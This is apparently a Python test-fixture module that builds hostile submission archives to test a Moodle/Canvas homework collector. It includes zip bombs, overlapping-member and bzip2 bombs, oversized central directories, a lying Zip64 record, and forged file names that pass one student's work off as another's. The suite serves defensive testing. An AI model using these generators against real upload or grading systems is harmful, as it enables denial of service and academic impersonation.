"""Hostile downloads: what one student has handed in to Moodle or Canvas; each function is an attack on the collecting.

An attack's own files are taken, but for those of TO_A_PERSON; nobody else's submission changes, and it costs little.
"""

from __future__ import annotations

import base64
import struct
import zipfile
import zlib
from collections.abc import Iterable
from dataclasses import dataclass

from downloads import zipped

TIME = (0, 0x21)  # the first moment that a zip can name
CANVAS, MOODLE = "moemallory_777_5002_w.zip", "Mallory Moe_977_assignsubmission_file_/w.zip"
BZIP2 = b"LRx4!" + b"F+o`-Q&|oP;@<&Zjz9pw000Oe05E_}Mna$^sS1FX" * 15
BZIP2 += b"F+o`-Q&}$c2hRaqoInA<004jh2p|A3%mpc?6%kTwMMPAdF64@Ep&<!kg1P"
TO_A_PERSON = ("steal_id_as_a_name", "steal_name_of_canvas", "steal_name_of_moodle")


@dataclass(frozen=True)
class Packed:
    """A member's data as it lies in the zip, and what the zip says of it."""

    data: bytes
    size: int
    crc: int
    method: int = zipfile.ZIP_DEFLATED

    def header(self, name: bytes) -> bytes:
        """Return the header in front of the data."""
        sizes = self.crc, len(self.data), self.size, len(name), 0
        return struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, self.method, *TIME, *sizes) + name

    def line(self, name: bytes, offset: int, extra: bytes = b"") -> bytes:
        """Return the line of the list at the zip's end."""
        sizes = self.crc, len(self.data), self.size, len(name), len(extra), 0, 0, 0, 0, offset
        return struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, self.method, *TIME, *sizes) + name + extra


def deflated(data: bytes) -> Packed:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return Packed(packer.compress(data) + packer.flush(), len(data), zlib.crc32(data))


def stored(data: bytes) -> Packed:
    return Packed(data, len(data), zlib.crc32(data), zipfile.ZIP_STORED)


def closed(body: bytes, lines: bytes, count: int) -> bytes:
    """Return a whole zip: what is packed, the list, and the record that says where the list is."""
    count = min(count, 0xFFFE)
    return body + lines + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(lines), len(body), 0)


def zip_of(members: Iterable[tuple[str, Packed]], often: int = 1) -> bytes:
    """Return a zip whose members are each listed that often."""
    body, lines, count = bytearray(), bytearray(), 0
    for name, packed in members:
        raw = name.encode()
        lines += packed.line(raw, len(body)) * often
        body += packed.header(raw) + packed.data
        count += often
    return closed(bytes(body), bytes(lines), count)


def exhaust_blocks_that_hold_nothing():
    """Have the same 30 MB of packed data gone through by five hundred members, out of which next to nothing comes."""
    nothing = b"\0\0\0\xff\xff" * (6 << 20) + deflated(b"x").data
    front, out, headers = b"", b"x", []
    for number in reversed(range(500)):  # each member quotes the header of the next one, and goes on with its data
        name = f"{number:03}.py".encode()
        packed = Packed(front + nothing, len(out), zlib.crc32(out))
        header = packed.header(name)
        headers.append((name, packed.crc, len(packed.data), packed.size, len(header) + len(front)))
        front = struct.pack("<B2H", 0, len(header), 0xFFFF - len(header)) + header + front
        out = header + out
    body = front[5:] + nothing
    lines = b""
    for name, *sizes, behind in headers:
        numbers = (*sizes, len(name), 0, 0, 0, 0, 0, len(body) - len(nothing) - behind)
        lines += struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, *TIME, *numbers) + name
    return {CANVAS: closed(body, lines, len(headers))}


def exhaust_bzip2():
    """Have 700 MB unpacked at once, from a member that bzip2 has packed into 530 bytes."""
    bomb = Packed(base64.b85decode(BZIP2), 30 << 20, 0, zipfile.ZIP_BZIP2)
    return {MOODLE: zip_of([("x.py", bomb), ("gates.py", deflated(b"mine"))])}


def exhaust_large_members():
    """Have 31 MB unpacked a thousand times, from members of 32 MB in all."""
    large = deflated(bytes(31 << 20))
    return {CANVAS: zip_of((f"{number:03}.py", large) for number in range(1000))}


def exhaust_list_of_two_million():
    """Have a list of two million members read, 94 MB, before anybody counts them."""
    count = 2_000_000
    return {CANVAS: closed(b"", stored(b"").line(b"x", 0) * count, count)}


def exhaust_lists_in_nested_zips():
    """Have a long list of members read two hundred times, each time in another zip within a zip."""
    count = 40_000
    inner = deflated(closed(b"", stored(b"").line(b"x/", 0) * count, count))
    return {CANVAS: zip_of((f"{number}.zip", inner) for number in range(200))}


def exhaust_many_folders():
    """Have each of sixty thousand folders compared with all others, to find where the module lies."""
    return {CANVAS: zip_of((f"{number}/gates.py", stored(b"")) for number in range(60_000))}


def exhaust_member_listed_often():
    """Have 31 MB unpacked a thousand times, from one member that the zip lists a thousand times."""
    return {MOODLE: zip_of([("gates.py", deflated(bytes(31 << 20)))], often=1000)}


def exhaust_names_of_many_folders():
    """Have a name with thirty thousand folders taken apart, and each part looked at, again and again."""
    members = [(f"{'a/' * 30_000}{number}.py", stored(b"")) for number in range(200)]
    return {CANVAS: zip_of([*members, ("gates.py", stored(b"mine"))])}


def exhaust_size_that_is_a_lie():
    """Have a list of 94 MB read that the record of a large zip says is short, in the old record."""
    lines = stored(b"").line(b"x", 0) * 2_000_000
    large = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, 1, 1, len(lines), 0)
    where = struct.pack("<4sLQL", b"PK\6\7", 0, len(lines), 1)
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1, 1, 47, 0, 0)
    return {CANVAS: lines + large + where + end}


def spoil_file_called_like_the_folder():
    """End the command for all, by a file that is called like the folder around the module."""
    return {CANVAS: zipped({"02_gates/gates.py": "mine"}), "moemallory_777_5003_02_gates": b""}


def spoil_place_beyond_all_numbers():
    """End the command for all, by a member that begins at a place no file can have."""
    packed = stored(b"mine")
    extra = struct.pack("<2HQ", 1, 8, (1 << 64) - 1)
    lines = packed.line(b"gates.py", 0) + packed.line(b"x.py", 0xFFFFFFFF, extra)
    return {"moodle2.zip": zipped({MOODLE: closed(packed.header(b"gates.py") + packed.data, lines, 2)})}


def steal_folder_behind_a_backslash():
    """Be read as Alice's by a file name with backslashes, which Windows takes for folders."""
    return {"submissions2.zip": zipped({"mallory_777_5002_x\\alice\\gates.py": "hostile"})}


def steal_folder_behind_a_mark():
    """Hide who hands in by a letter's mark in the name, so that the folder in the zip names Alice."""
    return {"mallory\u0301\u0308_777_5002_hw.zip": zipped({"alice/gates.py": "hostile", "alice/gates.ipynb": "{}"})}


def steal_id_as_a_name():
    """Be read as Bella's, who has not handed in, by her id in place of a name and another number."""
    return {"bella_778_5002_hw.zip": zipped({"gates.py": "hostile"})}


def steal_name_of_canvas():
    """Be read as Alice's, by a sortable name and a file name that hold her name and number."""
    return {"adamsalice_101_99999_777_5002_hw.zip": zipped({"gates.py": "hostile"})}


def steal_name_of_moodle():
    """Be read as Alice's, by a full name that goes on like the folder of her hand-in."""
    return {"Alice Adams_901_assignsubmission_file_x_977_assignsubmission_file_/gates.py": b"hostile"}


ATTACKS = {name: build for name, build in globals().items() if name.startswith(("exhaust_", "spoil_", "steal_"))}
